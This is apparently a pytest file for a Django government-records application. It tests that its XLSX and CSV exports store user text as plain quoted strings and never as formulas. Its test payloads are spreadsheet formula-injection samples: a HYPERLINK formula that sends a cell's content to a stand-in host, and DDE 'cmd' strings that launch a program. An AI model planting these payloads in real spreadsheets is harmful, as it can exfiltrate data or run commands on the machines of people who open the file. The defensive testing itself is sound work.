"""User text in every XLSX/CSV export stays text (issue 11, item 5; ADR 0091).

The files are produced by the real pages and services and opened again with openpyxl (and read
as raw XML): the cells are strings with the exact text, and the sheets hold no formula.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import Workbook, load_workbook

from congso.core.exports import append_text_row, csv_writer, formula_like, text_cells
from congso.documents.tests.factories import IncomingFactory
from congso.dossiers import services as dossier_services
from congso.dossiers.tests.conftest import all_papers, person
from congso.dossiers.tests.factories import offered_procedure

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1;"Bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '＝HYPERLINK("http://evil.example")',
]


def _formulas(data: bytes) -> list[str]:
    """Every <f> element in the workbook's sheets (what Excel would evaluate)."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return [
            m
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
            for m in re.findall(r"<f[ >].*?</f>", archive.read(name).decode())
        ]


def _cells(data: bytes) -> dict[str, tuple[str, str]]:
    """value → (data_type, quote prefix) of every string cell of every sheet."""
    wb = load_workbook(io.BytesIO(data))
    out = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    out[cell.value] = (cell.data_type, cell.quotePrefix)
    return out


def test_helper_ordinary_and_write_only_sheets_and_csv():
    assert all(formula_like(p) for p in PAYLOADS)
    assert not formula_like("Nguyễn Văn An") and not formula_like(5) and not formula_like("")
    wb = Workbook()
    ws = wb.active
    append_text_row(ws, [*PAYLOADS, 12, None, "Bình thường"])
    lean = Workbook(write_only=True)
    lean_ws = lean.create_sheet("x")
    lean_ws.append(text_cells(lean_ws, [*PAYLOADS, 12]))
    for book in (wb, lean):
        buffer = io.BytesIO()
        book.save(buffer)
        data = buffer.getvalue()
        assert _formulas(data) == []
        cells = _cells(data)
        for payload in PAYLOADS:
            assert cells[payload] == ("s", True), payload  # the exact text, a string cell
        if book is wb:
            assert cells["Bình thường"] == ("s", False)
            assert load_workbook(io.BytesIO(data)).active["B1"].value == PAYLOADS[1]
    stream = io.StringIO()
    csv_writer(stream).writerows([PAYLOADS, ["Nguyễn Văn An", 5]])
    rows = list(csv.reader(io.StringIO(stream.getvalue())))
    assert rows[0] == ["'" + p for p in PAYLOADS] and rows[1] == ["Nguyễn Văn An", "5"]


@pytest.mark.django_db
def test_document_register_xlsx_keeps_abstract_and_sender_as_text(demo_org, client):
    IncomingFactory(
        unit=demo_org.district, abstract=PAYLOADS[0], sender_name=PAYLOADS[3], note=PAYLOADS[4]
    )
    client.force_login(demo_org.user("vanthu.tx"))
    today = timezone.localdate()
    for kind in ("den", "theo-doi"):
        response = client.get(
            "/so-van-ban/",
            {
                "kind": kind,
                "unit": demo_org.district.pk,
                "date_from": f"{today.year}-01-01",
                "date_to": today.isoformat(),
                "series": "normal",
                "format": "xlsx",
            },
        )
        assert response.status_code == 200
        assert _formulas(response.content) == []
        cells = _cells(response.content)
        assert any(PAYLOADS[0] in value for value in cells), kind
        for value, (data_type, _quote) in cells.items():
            assert data_type == "s", value


@pytest.mark.django_db
def test_one_stop_register_xlsx_keeps_applicant_and_address_as_text(demo_org, client):
    version = offered_procedure(demo_org.desk)
    dossier_services.dossier_receive(
        by=demo_org.staff["motcua.tx"],
        receiving_unit=demo_org.desk,
        version=version,
        applicant=person(name=PAYLOADS[0], address=PAYLOADS[3]),
        papers=all_papers(version),
    )
    client.force_login(demo_org.user("lanhdao.tx"))
    today = timezone.localdate()
    response = client.get(
        reverse("dossiers:register"),
        {
            "don_vi": demo_org.district.pk,
            "tu": today.replace(day=1).isoformat(),
            "den": today.isoformat(),
            "dinh_dang": "xlsx",
        },
    )
    assert response.status_code == 200
    assert _formulas(response.content) == []
    cells = _cells(response.content)
    assert cells[PAYLOADS[0]] == ("s", True)
    assert any(value.startswith(PAYLOADS[3]) for value in cells)


@pytest.mark.django_db
def test_procedure_catalogue_export_keeps_text_and_round_trips(demo_org):
    from congso.procedures.models import Procedure
    from congso.procedures.tests.factories import published_procedure
    from congso.procedures.xlsx import catalogue_export, catalogue_import

    published_procedure(name=PAYLOADS[0], unit=demo_org.district)
    data = catalogue_export(by=None)
    assert _formulas(data) == []
    assert _cells(data)[PAYLOADS[0]] == ("s", True)
    # Import of the same file: the name is read back exactly, no quote added or lost.
    Procedure.objects.update(name="đổi tạm")
    catalogue_import(data, by=None)
    assert Procedure.objects.filter(name=PAYLOADS[0]).exists()
